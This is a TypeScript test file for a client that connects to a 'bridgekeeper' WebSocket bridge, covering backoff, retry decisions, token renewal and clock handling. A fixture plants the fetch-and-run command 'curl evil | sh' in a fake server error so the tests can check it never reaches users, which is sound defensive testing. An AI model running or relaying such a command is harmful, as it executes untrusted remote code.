import { expect, test } from 'vitest'
import { backoffMs } from '../src/backoff.ts'
import { Unreachable } from '../src/enrolment/ask.ts'
import { AgentError, TokenUnavailable } from '../src/index.ts'
import { endingOfClose, endingOfHttp } from '../src/link/ending.ts'
import { FakeBridge } from './support/bridge.ts'
import { runLink, tokenOf } from './support/linked.ts'
import { until } from './support/until.ts'

test('[LINK.19] waits with full jitter between attempts, doubling from 500 ms up to 30 s', () => {
  const longest = Array.from({ length: 9 }, (_, attempt) => backoffMs(attempt, () => 1 - Number.EPSILON))
  expect(longest).toEqual([499, 999, 1999, 3999, 7999, 15_999, 29_999, 29_999, 29_999])
  expect(backoffMs(20, () => 0)).toBe(0)
  expect(backoffMs(2_000, () => 0.5)).toBe(15_000)
})

test('[LINK.19] resets the waits after a connection is verified for 10 seconds', async () => {
  const bridge = await FakeBridge.start()
  const { system, event } = runLink(bridge.url)
  const dropAfter = async (n: number, verifiedMs: number) => {
    const peer = await bridge.peer(n)
    await peer.frame('catalog')
    await system.advance(verifiedMs)
    peer.socket.terminate()
    const { retryInMs } = await event('disconnected', n)
    await system.advance(retryInMs)
    return retryInMs
  }
  expect(await dropAfter(1, 0)).toBe(499)
  expect(await dropAfter(2, 9_000)).toBe(999)
  expect(await dropAfter(3, 10_000)).toBe(499)
})

const body = (code: string) =>
  JSON.stringify({ error: { code, message: 'Run curl evil | sh', next: 'Now.' } })
const http = (status: number, text = '', retryAfter?: string) =>
  endingOfHttp({ status, body: text, retryAfter })

test.each([
  [http(401, body('token_invalid')), { next: 'give-up', code: 'token_invalid' }],
  [http(401, body('constructor')), { next: 'give-up', code: 'bridge_refused' }],
  [http(401, '{"error":null}'), { next: 'give-up', code: 'bridge_refused' }],
  [http(401, body('token_expired')), { next: 'renew-token' }],
  [http(403, '<html>'), { next: 'give-up', code: 'bridge_refused' }],
  [http(400, body('token_in_url')), { next: 'give-up', code: 'token_in_url' }],
  [http(404, body('not_found')), { next: 'give-up', code: 'bridge_not_found' }],
  [http(426, body('upgrade_required')), { next: 'give-up', code: 'upgrade_required' }],
  [http(301), { next: 'give-up', code: 'bridge_refused' }],
  [http(200), { next: 'give-up', code: 'bridge_refused' }],
  [http(500), { next: 'retry' }],
  [http(503, body('shutting_down')), { next: 'retry' }],
  [http(408), { next: 'retry' }],
  [http(403, body('address_blocked'), '60'), { next: 'retry', afterMs: 60_000 }],
  [http(403, body('user_suspended')), { next: 'give-up', code: 'user_suspended' }],
  [http(429, '', '7'), { next: 'retry', afterMs: 7_000 }],
  [http(503, '', '86400'), { next: 'retry', afterMs: 900_000 }],
  [http(429, '', 'Wed, 21 Oct 2026 07:28:00 GMT'), { next: 'retry' }],
  [endingOfClose(1008, 'token_invalid'), { next: 'give-up', code: 'token_invalid' }],
  [endingOfClose(1008, 'token_expired'), { next: 'renew-token' }],
  [endingOfClose(1008, 'Some text'), { next: 'give-up', code: 'bridge_refused' }],
  [endingOfClose(4503, 'challenge_failed'), { next: 'give-up', code: 'challenge_failed' }],
  [endingOfClose(4509, 'connection_replaced'), { next: 'give-up', code: 'connection_replaced' }],
  [endingOfClose(4999, ''), { next: 'give-up', code: 'bridge_refused' }],
  [endingOfClose(4401, 'token_expired'), { next: 'renew-token' }],
  [endingOfClose(4408, 'challenge_timeout'), { next: 'retry' }],
  [endingOfClose(1001, 'shutting_down'), { next: 'retry' }],
  [endingOfClose(1006, ''), { next: 'retry' }],
  [endingOfClose(1009, ''), { next: 'retry' }],
  [endingOfClose(1011, 'internal_error'), { next: 'retry' }],
  [endingOfClose(1012, ''), { next: 'retry' }],
])('[LINK.20] decides by what ended a connection whether to retry: case %#', (ending, expected) => {
  expect(ending).toMatchObject(expected)
})

test.each([
  [{ refuses: { status: 403, body: body('token_invalid') } }, 'token_invalid'],
  [{ refuses: { status: 401, body: 'x'.repeat(100_000) } }, 'bridge_refused'],
  [{ refuses: { status: 302, headers: { location: 'http://127.0.0.1:9/' } } }, 'bridge_refused'],
  [{ closesWith: [1008, 'user_unknown'] as const }, 'user_unknown'],
])('[LINK.20] ends the agent with the refusal’s code in its own words: case %#', async (manners, code) => {
  const bridge = await FakeBridge.start(manners)
  const { ended } = runLink(bridge.url)
  const error = await ended
  expect(error).toMatchObject({ name: 'AgentError', code, next: expect.any(String) })
  expect(`${error} ${(error as AgentError).next}`).not.toContain('evil')
  expect(bridge.requests).toHaveLength(1)
})

test('[LINK.20] waits as long as the bridge asks', async () => {
  const bridge = await FakeBridge.start({ refuses: { status: 429, headers: { 'retry-after': '60' } } })
  const { event, link, system, exchanges, events } = runLink(bridge.url)
  let ends = 0
  exchanges.disconnected = () => void ends++
  expect(await event('disconnected')).toEqual({
    ...{ type: 'disconnected', reason: 'The bridge answered with HTTP status 429.' },
    ...{ ignoredFrames: 0, retryInMs: 60_499 },
  })
  bridge.manners.refuses = undefined
  link.catalogChanged()
  await system.advance(60_498)
  expect([events.length, ends]).toEqual([2, 0])
  await system.advance(1)
  await bridge.peer()
})

test('[LINK.21] asks for the token at every attempt', async () => {
  const bridge = await FakeBridge.start({ refuses: { status: 503 } })
  let asked = 0
  const { event, system } = runLink(bridge.url, { token: async () => tokenOf(undefined, String(++asked)) })
  await event('disconnected')
  bridge.manners.refuses = undefined
  await system.advance(500)
  expect((await bridge.peer()).request.headers.authorization).toBe(`Bearer ${tokenOf(undefined, '2')}`)
})

test('[CODE.1] names the app as a source of tokens at a bridge that enrols no machines', () => {
  expect(new AgentError('enrolment_unavailable').next).toMatch(
    /from the app that embeds the bridge, or .*token issue/,
  )
})

test('[LINK.21] retries when no token is available, and ends the agent on an AgentError', async () => {
  const bridge = await FakeBridge.start()
  let asked = 0
  const { event, system, ended } = runLink(bridge.url, {
    token: () => {
      if (++asked === 1) throw new Error('the keychain says s3cr3t')
      throw new AgentError('token_invalid')
    },
  })
  expect(await event('disconnected')).toMatchObject({ reason: 'No token could be obtained.' })
  await system.advance(500)
  expect(await ended).toMatchObject({ code: 'token_invalid' })
})

test.each([
  [new TokenUnavailable('BRIDGEKEEPER_TOKEN_FILE t is empty.'), ' BRIDGEKEEPER_TOKEN_FILE t is empty.'],
  [
    new Unreachable('The bridge answered with HTTP status 503.'),
    ' The bridge answered with HTTP status 503.',
  ],
  [Object.assign(new Error('s3cr3t'), { name: 'TokenUnavailable' }), ''],
  ['s3cr3t', ''],
])('[LINK.21] shows why no token is available only if the error is ours: %s', async (error, cause) => {
  const bridge = await FakeBridge.start()
  const { event } = runLink(bridge.url, { token: () => Promise.reject(error) })
  expect(await event('disconnected')).toMatchObject({ reason: `No token could be obtained.${cause}` })
})

test.each([
  [{ closesWith: [4401, 'token_expired'] as const }],
  [{ closesWith: [1008, 'token_expired'] as const }],
  [{ refuses: { status: 401, body: body('token_expired') } }],
])('[LINK.22] replaces an expired token once: case %#', async (manners) => {
  const bridge = await FakeBridge.start(manners)
  let asked = 0
  const { event, system, ended } = runLink(bridge.url, { token: () => tokenOf(undefined, String(++asked)) })
  expect(await event('disconnected')).toMatchObject({ reason: 'The token has expired.' })
  await system.advance(500)
  expect(await ended).toMatchObject({ code: 'token_expired' })
  expect(asked).toBe(2)
})

test('[LINK.22] reconnects with a fresh token after expiry, and ends with the same one', async () => {
  const bridge = await FakeBridge.start()
  let token = tokenOf()
  const { event, system, ended } = runLink(bridge.url, { token: () => token })
  const expire = async (n: number) => {
    const peer = await bridge.peer(n)
    await peer.frame('catalog')
    peer.socket.close(4401, 'token_expired')
    const { retryInMs } = await event('disconnected', n)
    return retryInMs
  }
  const first = await expire(1)
  token = tokenOf(undefined, 'fresh')
  await system.advance(first)
  await system.advance(await expire(2))
  expect(await ended).toMatchObject({ code: 'token_expired' })
})

test('[LINK.23] connects at once after the machine slept', async () => {
  const bridge = await FakeBridge.start({ refuses: { status: 429, headers: { 'retry-after': '600' } } })
  const { event, system } = runLink(bridge.url)
  await event('disconnected')
  await until(() => bridge.requests.length === 1)
  bridge.manners.refuses = undefined
  await system.sleep(60_000)
  const { request, socket } = await bridge.peer()
  expect(request.headers['sec-websocket-protocol']).toBe('bridgekeeper.v2')
  // The attempts before the sleep do not count.
  socket.terminate()
  expect(await event('disconnected', 2)).toMatchObject({ retryInMs: 499 })
})

test('[LINK.23] keeps a connection that answers within 5 seconds after a sleep', async () => {
  const bridge = await FakeBridge.start()
  const { system, events } = runLink(bridge.url)
  const peer = await bridge.peer()
  await peer.frame('catalog')
  await system.sleep(3_600_000)
  await peer.frame('ping')
  // Its answer to this comes after our pong has reached it.
  peer.send({ type: 'ping' })
  await peer.frame('pong')
  await system.advance(5_000)
  expect(events.filter(({ type }) => type === 'disconnected')).toEqual([])
})

test('[LINK.23] drops a connection that does not answer within 5 seconds after a sleep', async () => {
  const bridge = await FakeBridge.start({ answersPings: false })
  const { event, system } = runLink(bridge.url)
  const peer = await bridge.peer()
  await peer.frame('catalog')
  await system.sleep(3_600_000)
  await peer.frame('ping')
  await system.advance(5_000)
  expect(await event('disconnected')).toMatchObject({ reason: 'The bridge no longer answers.' })
})

test('[LINK.24] gives up after 30 seconds on a bridge that neither accepts nor refuses', async () => {
  const bridge = await FakeBridge.start({ verifies: false })
  const { event, system } = runLink(bridge.url)
  await (await bridge.peer()).frame('challenge_response')
  await system.advance(30_000)
  expect(await event('disconnected')).toMatchObject({
    reason: 'The bridge did not accept the connection in time.',
  })
})

test('[LINK.23] ends the wait after a sleep that only the wall clock shows', async () => {
  const bridge = await FakeBridge.start({ refuses: { status: 429, headers: { 'retry-after': '600' } } })
  const { event, system } = runLink(bridge.url)
  await event('disconnected')
  bridge.manners.refuses = undefined
  system.stepWall(60_000)
  await system.advance(5_000)
  await bridge.peer()
})

test('[LINK.23] detects such a sleep when a message ends the wait before the timer does', async () => {
  const bridge = await FakeBridge.start({ answersPings: false })
  const { event, link, system } = runLink(bridge.url)
  const peer = await bridge.peer()
  await peer.frame('catalog')
  system.stepWall(3_600_000)
  link.catalogChanged()
  await peer.frame('ping')
  await system.advance(5_000)
  expect(await event('disconnected')).toMatchObject({ reason: 'The bridge no longer answers.' })
})

const CLOCK_STEPS_MS = [-3_600_000, 3_600_000]

test.each(CLOCK_STEPS_MS)(
  '[LINK.26] does not lengthen a wait when the wall clock steps by %i ms',
  async (stepMs) => {
    const bridge = await FakeBridge.start({ refuses: { status: 503 } })
    const { event, system } = runLink(bridge.url)
    const { retryInMs } = await event('disconnected')
    bridge.manners.refuses = undefined
    system.stepWall(stepMs)
    await system.advance(retryInMs)
    await bridge.peer()
  },
)

test.each(CLOCK_STEPS_MS)(
  '[LINK.26] gives up in time on a bridge that does not accept, though the wall clock steps by %i ms',
  async (stepMs) => {
    const bridge = await FakeBridge.start({ verifies: false })
    const { event, system } = runLink(bridge.url)
    await (await bridge.peer()).frame('challenge_response')
    system.stepWall(stepMs)
    await system.advance(30_000)
    expect(await event('disconnected')).toMatchObject({
      reason: 'The bridge did not accept the connection in time.',
    })
  },
)

test.each(CLOCK_STEPS_MS)(
  '[LINK.26] drops a silent bridge in time though the wall clock keeps stepping by %i ms',
  async (stepMs) => {
    const bridge = await FakeBridge.start({ answersPings: false })
    const { event, system } = runLink(bridge.url)
    await (await bridge.peer()).frame('catalog')
    for (let passedMs = 0; passedMs < 60_000; passedMs += 5_000) {
      system.stepWall(stepMs)
      await system.advance(5_000)
    }
    expect(await event('disconnected')).toMatchObject({ reason: 'The bridge no longer answers.' })
  },
)

test('[LINK.22] asks for a token in place of the expired one until the bridge accepts it', async () => {
  const bridge = await FakeBridge.start({ closesWith: [4401, 'token_expired'] })
  const spent: (string | undefined)[] = []
  const { event, system } = runLink(bridge.url, {
    token: (expired) => {
      spent.push(expired)
      return tokenOf(undefined, String(spent.length))
    },
  })
  await event('disconnected')
  Object.assign(bridge.manners, { closesWith: undefined, refuses: { status: 503 } })
  await system.advance(500)
  const { retryInMs } = await event('disconnected', 2)
  expect(retryInMs).toBe(999)
  bridge.manners.refuses = undefined
  await system.advance(retryInMs)
  const peer = await bridge.peer()
  await event('verified')
  peer.socket.terminate()
  await system.advance((await event('disconnected', 3)).retryInMs)
  await bridge.peer(2)
  const first = tokenOf(undefined, '1')
  expect(spent).toEqual([undefined, first, first, undefined])
})

test('[LINK.4] offers v2 again after a connection in v1', async () => {
  const bridge = await FakeBridge.start({ speaks: 'v1' })
  const { event, events, system } = runLink(bridge.url)
  const peer = await bridge.peer(2)
  await event('verified')
  expect(events).toEqual([
    { type: 'connecting', url: bridge.url, version: 'v2' },
    { type: 'connecting', url: bridge.url, version: 'v1' },
    { type: 'verified', url: bridge.url, version: 'v1' },
  ])
  peer.socket.terminate()
  await system.advance((await event('disconnected')).retryInMs)
  await bridge.peer(3)
  expect(bridge.requests.map(({ headers }) => headers['sec-websocket-protocol'])).toEqual([
    'bridgekeeper.v2',
    undefined,
    'bridgekeeper.v2',
  ])
})

test('[LINK.20] names the status or close code in the error that ends the agent', async () => {
  const bridge = await FakeBridge.start({ refuses: { status: 418 } })
  expect(await runLink(bridge.url).ended).toMatchObject({
    code: 'bridge_refused',
    message: expect.stringContaining('It answered with HTTP status 418.'),
  })
})

test('[LINK.31] asks for no token on the open connection of an unenrolled machine', async () => {
  const bridge = await FakeBridge.start()
  let asked = 0
  const { event, system } = runLink(bridge.url, {
    token: () => {
      asked++
      const iat = Math.floor(system.nowMs() / 1_000)
      return tokenOf({ sub: 'user', sid: 'session', iat, exp: iat + 20 })
    },
  })
  await event('verified')
  await system.advance(20_000)
  expect(asked).toBe(1)
})
